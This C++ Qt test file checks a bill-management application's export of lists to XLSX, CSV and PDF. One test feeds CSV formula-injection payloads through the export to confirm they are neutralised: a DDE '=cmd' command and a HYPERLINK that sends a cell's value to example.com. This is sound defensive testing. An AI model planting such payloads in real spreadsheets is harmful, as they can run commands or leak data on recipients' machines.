// Lists handed over as files: the workbook read back with openpyxl, the CSV read back byte by byte
// and with Python's csv reader, the PDF through the print engine, and the "导出" file dialog.
#include "app/Dialect.h"
#include "bills/BillNumbers.h"
#include "lists/QueryListCtrl.h"
#include "reports/ExportList.h"
#include "reports/ListExport.h"
#include "schema/Schema.h"
#include "tests/support/TestSupport.h"

#include <QDir>
#include <QFile>
#include <QHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QtTest>

using namespace schema;

namespace {

// The system Python, which carries openpyxl.
const QString kPython = QStringLiteral("/usr/bin/python3");

QByteArray RunPython(const QString &script, const QStringList &arguments) {
    QProcess process;
    process.start(kPython, QStringList{"-c", script} + arguments);
    if (!process.waitForFinished(120000) || process.exitCode() != 0) {
        qWarning("python failed: %s", process.readAllStandardError().constData());
        return QByteArray();
    }
    return process.readAllStandardOutput();
}

struct Book {
    const char *begin;
    int count;
    double total;
    const char *time;
    const char *remark;
};

// Amounts that binary floating point does not hold exactly, a zero one, and remarks a CSV must quote.
const Book kBooks[] = {
    {"00000001", 100, 1234.56, "2026-01-09 09:05:00", "普通"},
    {"00000101", 50, 0.1 + 0.2, "2026-02-28 23:59:59", "甲,乙"},
    {"00000151", 100, 0, "2026-03-01 00:00:00", "他说\"好\""},
    {"00000251", 1, 99999999.99, "2026-12-31 12:00:00", "第一行\n第二行"},
    {"00000252", 7, 7.05, "", ""},
};

void FillList(CQueryListCtrl &list) {
    for (const Book &b : kBooks)
        TheDatabase().ExecuteStatement(
            QString::asprintf("INSERT INTO %s (%s,%s,%s,%s,%s,%s,%s,%s) VALUES ('票据甲','%s',%d,%f,%s,'%s','%s',%f)",
                              Bill_Info, Bill_Kind, Bill_Begin_Char, Bill_Unit_Amount, Bill_Unit_Total,
                              Bill_Repository_Time, Bill_Info_Remark, Bill_Flag, Bill_Repository_No, b.begin, b.count,
                              b.total, *b.time ? qPrintable(QStringLiteral("'%1'").arg(b.time)) : "NULL",
                              Quote(b.remark).constData(), FlagStock, 100000000000001.0));
    const QString statement = QString::asprintf(
        "SELECT %s AS 票据类型,%s AS 开始编号,%s AS 张数,%s AS 金额,%s AS 入库时间,%s AS 入库单号,%s AS 备注 FROM %s "
        "WHERE %s = '%s' ORDER BY %s ASC",
        Bill_Kind, Bill_Begin_Char, Bill_Unit_Amount, Bill_Unit_Total, Bill_Repository_Time, Bill_Repository_No,
        Bill_Info_Remark, Bill_Info, Bill_Flag, FlagStock, Bill_ID);
    list.ClearColumns();
    list.SetStatement(statement, 3);
    list.SetMoneyColumns({"金额"}, "￥", 2);
    QVERIFY(list.FillFromStatement(statement));
}

// Every cell of the first sheet with its type and number format, as JSON.
const char *kReadWorkbook = R"(
import json, sys, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.worksheets[0]
rows = []
for row in ws.iter_rows():
    cells = []
    for c in row:
        v = c.value
        kind = type(v).__name__
        if isinstance(v, datetime.datetime):
            v = v.strftime('%Y-%m-%d %H:%M:%S')
        cells.append({'v': v, 't': kind, 'f': c.number_format, 'b': bool(c.font.b)})
    rows.append(cells)
widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width for i in range(ws.max_column)]
print(json.dumps({'sheet': ws.title, 'rows': rows, 'widths': widths}))
)";

const char *kReadCsv = R"(
import csv, json, sys
with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
    print(json.dumps(list(csv.reader(f))))
)";

QByteArray FileBytes(const QString &path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// Answers the "导出" file dialog with the path given.
class SaveAs {
public:
    explicit SaveAs(const QString &path)
        : m_previous(SetSaveFileRunner([path](QString &chosen, QWidget *) {
              chosen = path;
              return true;
          })) {}
    ~SaveAs() { SetSaveFileRunner(m_previous); }

private:
    SaveFileRunner m_previous;
};

} // namespace

class ListExportTest : public QObject {
    Q_OBJECT
private slots:
    void columnsAreTypedByTheirCells();
    void workbookHoldsEveryRowWithRealNumbersAndDates();
    void csvIsUtf8WithBomAndQuotesWhereNeeded();
    void pdfComesFromThePrintEngine();
    void exportProposesTheTableNameAndTellsTheOutcome();
    void csvShowsFormulaTextsAsTextAndKeepsNumbers();
    void everySheetNameExportsWithoutACrash();
    void overlongCellsAreCutAndTheClerkIsTold();
    void fullDiskLeavesTheOldFileAsItWas();
};

void ListExportTest::columnsAreTypedByTheirCells() {
    ExportTable table;
    table.headers = {"编号", "单号", "张数", "金额", "时间", "混合"};
    table.rows = {{"00000001", "100000000000000", "100", "￥12.50", "2026-01-09 09:05:00", "12"},
                  {"00000101", "100000000000001", "7", "0", "2026-1-9", "甲"},
                  {"", "", "", "", "", ""}};
    table.TypeColumns();
    using K = ExportTable::Kind;
    QCOMPARE(table.kinds, (QVector<K>{K::Text, K::Text, K::Number, K::Money, K::Date, K::Text}));
    QCOMPARE(table.widths[4], 21.0);
    // A column of zeros only carries no sign: it is a number column, not money.
    table.rows = {{"0", "0", "0", "0", "2026-13-01", "2026-02-30 25:00:00"}};
    table.TypeColumns();
    QCOMPARE(table.kinds[3], K::Number);
    QCOMPARE(table.kinds[4], K::Text);
    QCOMPARE(table.kinds[5], K::Text);
    double v = 0;
    QVERIFY(MoneyValue("￥1,234.56", v));
    QCOMPARE(v, 1234.56);
    QVERIFY(!MoneyValue("￥", v));
}

void ListExportTest::workbookHoldsEveryRowWithRealNumbersAndDates() {
    TestDatabase t;
    CQueryListCtrl list;
    FillList(list);
    const QString path = QDir(t.Dir()).filePath("库存清单.xlsx");
    QString error;
    QVERIFY2(ExportListTo(list, "库存清单", path, &error), qPrintable(error));

    const QJsonObject book = QJsonDocument::fromJson(RunPython(kReadWorkbook, {path})).object();
    QCOMPARE(book.value("sheet").toString(), QStringLiteral("库存清单"));
    const QJsonArray rows = book.value("rows").toArray();
    QCOMPARE(rows.size(), 2 + list.RowCount());
    QCOMPARE(rows[0].toArray()[0].toObject().value("v").toString(), QStringLiteral("库存清单"));
    const QJsonArray header = rows[1].toArray();
    QCOMPARE(header.size(), list.ColumnCount());
    for (int c = 0; c < list.ColumnCount(); ++c) {
        QCOMPARE(header[c].toObject().value("v").toString(), list.GetHeaderTitles()[c]);
        QVERIFY(header[c].toObject().value("b").toBool());
    }
    const int money = list.ColumnIndexOfTitle("金额");
    const int time = list.ColumnIndexOfTitle("入库时间");
    const int count = list.ColumnIndexOfTitle("张数");
    for (int r = 0; r < list.RowCount(); ++r) {
        const QJsonArray cells = rows[2 + r].toArray();
        for (int c = 0; c < list.ColumnCount(); ++c) {
            const QString shown = list.GetItemText(r, c);
            const QJsonObject cell = cells.at(c).toObject();
            if (shown.isEmpty()) {
                QVERIFY(cell.value("v").isNull());
            } else if (c == money) {
                QVERIFY2(cell.value("t") == QLatin1String("float") || cell.value("t") == QLatin1String("int"),
                         qPrintable(cell.value("t").toString()));
                QVERIFY(cell.value("f").toString().contains(QStringLiteral("￥")));
                QCOMPARE(qRound64(cell.value("v").toDouble() * 100), qRound64(StripMoneySign(shown).toDouble() * 100));
            } else if (c == time) {
                QCOMPARE(cell.value("t").toString(), QStringLiteral("datetime"));
                QCOMPARE(cell.value("v").toString(), shown);
            } else if (c == count) {
                QCOMPARE(cell.value("t").toString(), QStringLiteral("int"));
                QCOMPARE(cell.value("v").toInt(), shown.toInt());
            } else {
                // Bill numbers keep their zeros and 15-digit document numbers all their digits.
                QCOMPARE(cell.value("t").toString(), QStringLiteral("str"));
                QCOMPARE(cell.value("v").toString(), shown);
            }
        }
    }
    QCOMPARE(list.GetItemText(1, money), QStringLiteral("￥0.30"));
    QCOMPARE(rows[2 + 1].toArray()[money].toObject().value("v").toDouble(), 0.3);
    QCOMPARE(rows[2 + 3].toArray()[money].toObject().value("v").toDouble(), 99999999.99);
    // Columns as wide as their texts: the remark with its two lines is wider than the count.
    const QJsonArray widths = book.value("widths").toArray();
    QVERIFY(widths[time].toDouble() >= 19);
    QVERIFY(widths[list.ColumnIndexOfTitle("入库单号")].toDouble() >= 15);
}

void ListExportTest::csvIsUtf8WithBomAndQuotesWhereNeeded() {
    TestDatabase t;
    CQueryListCtrl list;
    FillList(list);
    const QString path = QDir(t.Dir()).filePath("清单.csv");
    QString error;
    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QVERIFY(bytes.mid(3).startsWith(QStringLiteral("票据类型,开始编号,张数,金额,入库时间,入库单号,备注\r\n").toUtf8()));
    QVERIFY(bytes.contains(QStringLiteral(",\"甲,乙\"\r\n").toUtf8()));
    QVERIFY(bytes.contains(QStringLiteral(",\"他说\"\"好\"\"\"\r\n").toUtf8()));
    QVERIFY(bytes.contains(QStringLiteral(",\"第一行\n第二行\"\r\n").toUtf8()));
    QVERIFY(bytes.contains(QStringLiteral(",普通\r\n").toUtf8()));

    const QJsonArray rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
    QCOMPARE(rows.size(), 1 + list.RowCount());
    for (int r = 0; r < list.RowCount(); ++r) {
        const QJsonArray fields = rows[1 + r].toArray();
        QCOMPARE(fields.size(), list.ColumnCount());
        for (int c = 0; c < list.ColumnCount(); ++c)
            QCOMPARE(fields[c].toString(), list.GetItemText(r, c));
    }
}

void ListExportTest::pdfComesFromThePrintEngine() {
    TestDatabase t;
    CQueryListCtrl list;
    FillList(list);
    list.resize(700, 300);
    const QString path = QDir(t.Dir()).filePath("清单.pdf");
    QString error;
    QVERIFY2(ExportListTo(list, "库存清单", path, &error), qPrintable(error));
    QProcess text;
    text.start("pdftotext", {"-layout", "-enc", "UTF-8", path, "-"});
    QVERIFY(text.waitForFinished(60000));
    const QString pages = QString::fromUtf8(text.readAllStandardOutput());
    QVERIFY2(pages.contains("表格名称：库存清单"), qPrintable(pages));
    QVERIFY(pages.contains("00000251"));
    QVERIFY(pages.contains("--第1/1页--"));
    // An empty list has nothing to export.
    CQueryListCtrl empty;
    empty.InsertColumn(0, "票据类型");
    QVERIFY(!ExportListTo(empty, "空", QDir(t.Dir()).filePath("空.pdf"), &error));
    QVERIFY(!ExportListTo(list, "清单", QDir(t.Dir()).filePath("清单.doc"), &error));
}

void ListExportTest::exportProposesTheTableNameAndTellsTheOutcome() {
    TestDatabase t;
    MessageCapture messages;
    CQueryListCtrl list;
    FillList(list);
    QString proposed;
    QString answer;
    const SaveFileRunner previous = SetSaveFileRunner([&](QString &path, QWidget *) {
        proposed = path;
        if (answer.isEmpty())
            return false;
        path = answer;
        return true;
    });
    // Cancelled: nothing written, nothing said.
    QVERIFY(!ExportList(list, "2026年/1月:库存"));
    QCOMPARE(proposed, QDir(t.Dir()).filePath("2026年_1月_库存.xlsx"));
    QCOMPARE(messages.Count(), 0);

    answer = QDir(t.Dir()).filePath("给财务.csv");
    QVERIFY(ExportList(list, "给财务"));
    QVERIFY(QFile::exists(answer));
    QCOMPARE(messages.Last().caption, QStringLiteral("完成"));

    // A folder that does not exist: the clerk is told, and no file claims success.
    answer = QDir(t.Dir()).filePath("没有这个文件夹/给财务.xlsx");
    QVERIFY(!ExportList(list, "给财务"));
    QCOMPARE(messages.Count(), 2);
    QVERIFY2(messages.Last().text.startsWith("导出失败"), qPrintable(messages.Last().text));
    QCOMPARE(messages.Last().icon, MsgIcon::Exclamation);
    SetSaveFileRunner(previous);
}

void ListExportTest::csvShowsFormulaTextsAsTextAndKeepsNumbers() {
    TestDatabase t;
    CQueryListCtrl list;
    FillList(list);
    const int remark = list.ColumnIndexOfTitle("备注");
    const QStringList formulas = {"=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+2",
                                  "-2+3", "@SUM(A1:A2)"};
    for (int r = 0; r < formulas.size(); ++r)
        QVERIFY(list.SetItemText(r, remark, formulas[r]));
    const QString path = QDir(t.Dir()).filePath("清单.csv");
    QString error;
    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
    QJsonArray rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
    QCOMPARE(rows.size(), 1 + list.RowCount());
    for (int r = 0; r < formulas.size(); ++r)
        QCOMPARE(rows[1 + r].toArray()[remark].toString(), QStringLiteral("'") + formulas[r]);
    // Money and numbers stay as they are shown, negative ones too.
    const int money = list.ColumnIndexOfTitle("金额");
    const int count = list.ColumnIndexOfTitle("张数");
    QVERIFY(list.SetItemText(0, count, "-3"));
    QVERIFY(list.SetItemText(1, money, "￥-12.50"));
    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
    rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
    for (int r = 0; r < list.RowCount(); ++r) {
        QCOMPARE(rows[1 + r].toArray()[money].toString(), list.GetItemText(r, money));
        QCOMPARE(rows[1 + r].toArray()[count].toString(), list.GetItemText(r, count));
    }
    QCOMPARE(rows[1].toArray()[count].toString(), QStringLiteral("-3"));

    // A tab or CR at the start stays, behind the '.
    QVERIFY(list.SetItemText(0, remark, "\t=1+2"));
    QVERIFY(list.SetItemText(1, remark, "\r=1+2"));
    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
    rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
    QCOMPARE(rows[1].toArray()[remark].toString(), QStringLiteral("'\t=1+2"));
    QCOMPARE(rows[2].toArray()[remark].toString(), QStringLiteral("'\r=1+2"));
}

void ListExportTest::everySheetNameExportsWithoutACrash() {
    TestDatabase t;
    CQueryListCtrl list;
    FillList(list);
    QString emoji;
    for (int i = 0; i < 40; ++i)
        emoji += QString::fromUcs4(U"\U0001F4B0", 1);
    const QString thirty = QStringLiteral("一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十");
    const QList<QPair<QString, QString>> cases = {{"'2026年1月票据", "2026年1月票据"},
                                                  {"票据'", "票据"},
                                                  {emoji, emoji.left(30)},
                                                  {"a[b]:c*d?e/f\\g", "a_b__c_d_e_f_g"},
                                                  {"' '", "清单"},
                                                  {"history", "history_"},
                                                  {thirty + "'票", thirty}};
    for (const auto &[title, sheet] : cases) {
        const QString path = QDir(t.Dir()).filePath("名称.xlsx");
        QString error;
        QVERIFY2(ExportListTo(list, title, path, &error), qPrintable(title + ": " + error));
        const QJsonObject book = QJsonDocument::fromJson(RunPython(kReadWorkbook, {path})).object();
        QCOMPARE(book.value("sheet").toString(), sheet);
        // The title row keeps the name as the clerk typed it.
        const QJsonArray rows = book.value("rows").toArray();
        QCOMPARE(rows[0].toArray()[0].toObject().value("v").toString(), title);
        QCOMPARE(rows.size(), 2 + list.RowCount());
    }
}

void ListExportTest::overlongCellsAreCutAndTheClerkIsTold() {
    TestDatabase t;
    MessageCapture messages;
    CQueryListCtrl list;
    FillList(list);
    const int remark = list.ColumnIndexOfTitle("备注");
    QVERIFY(list.SetItemText(0, remark, QString(40000, QChar(u'票'))));
    // An emoji on the limit is not split: the cut falls before it.
    QVERIFY(list.SetItemText(1, remark, QString(32766, QLatin1Char('a')) + QString::fromUcs4(U"\U0001F4B0", 1)));
    QVERIFY(list.SetItemText(2, remark, QString(32767, QLatin1Char('b'))));
    const QString path = QDir(t.Dir()).filePath("长.xlsx");
    const SaveAs answer(path);
    QVERIFY(ExportList(list, "长"));
    QCOMPARE(messages.Count(), 1);
    QCOMPARE(messages.Last().caption, QStringLiteral("完成"));
    QVERIFY2(messages.Last().text.contains(QStringLiteral("有2个单元格")), qPrintable(messages.Last().text));
    QVERIFY(messages.Last().text.contains(QStringLiteral("截断")));
    const QJsonArray rows = QJsonDocument::fromJson(RunPython(kReadWorkbook, {path})).object().value("rows").toArray();
    QCOMPARE(rows[2].toArray()[remark].toObject().value("v").toString(), QString(32767, QChar(u'票')));
    QCOMPARE(rows[3].toArray()[remark].toObject().value("v").toString(), QString(32766, QLatin1Char('a')));
    QCOMPARE(rows[4].toArray()[remark].toObject().value("v").toString(), QString(32767, QLatin1Char('b')));

    // Nothing to cut, nothing said about it.
    QVERIFY(list.SetItemText(0, remark, "短"));
    QVERIFY(list.SetItemText(1, remark, "短"));
    QVERIFY(ExportList(list, "长"));
    QCOMPARE(messages.Last().caption, QStringLiteral("完成"));
    QVERIFY(!messages.Last().text.contains(QStringLiteral("截断")));
}

void ListExportTest::fullDiskLeavesTheOldFileAsItWas() {
    TestDatabase t;
    MessageCapture messages;
    CQueryListCtrl list;
    FillList(list);
    const QString folder = QDir(t.Dir()).filePath("满");
    SmallFileSystem disk(folder, 512 * 1024);
    if (!disk.IsMounted())
        QSKIP(qPrintable(disk.Error()));
    // The old files, written by an export while there was room.
    const QStringList types = {"xlsx", "csv", "pdf"};
    QHash<QString, QByteArray> before;
    for (const QString &type : types) {
        const QString path = QDir(folder).filePath("给财务." + type);
        QString error;
        QVERIFY2(ExportListTo(list, "给财务", path, &error), qPrintable(error));
        before[type] = FileBytes(path);
        QVERIFY(!before[type].isEmpty());
    }
    // Far more rows than the room left.
    const int shown = list.RowCount();
    for (int copy = 0; copy < 400; ++copy)
        for (int r = 0; r < shown; ++r) {
            const int row = list.AppendRow();
            for (int c = 0; c < list.ColumnCount(); ++c)
                list.SetItemText(row, c, list.GetItemText(r, c));
            list.SetItemText(row, list.ColumnIndexOfTitle("备注"), QStringLiteral("第%1份").arg(copy));
        }
    disk.FillLeaving(16 * 1024);
    for (const QString &type : types) {
        const QString path = QDir(folder).filePath("给财务." + type);
        const SaveAs answer(path);
        QVERIFY(!ExportList(list, "给财务"));
        const QString text = messages.Last().text;
        QVERIFY2(text.startsWith(QStringLiteral("导出失败")), qPrintable(text));
        QVERIFY2(text.contains(QStringLiteral("原有的同名文件没有改动")), qPrintable(text));
        QCOMPARE(messages.Last().icon, MsgIcon::Exclamation);
        QVERIFY2(FileBytes(path) == before[type], qPrintable(type));
    }
    // No half files are left beside them.
    QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden, QDir::Name),
             (QStringList{"filler.bin", "给财务.csv", "给财务.pdf", "给财务.xlsx"}));
}

QTEST_MAIN(ListExportTest)
#include "tst_listexport.moc"
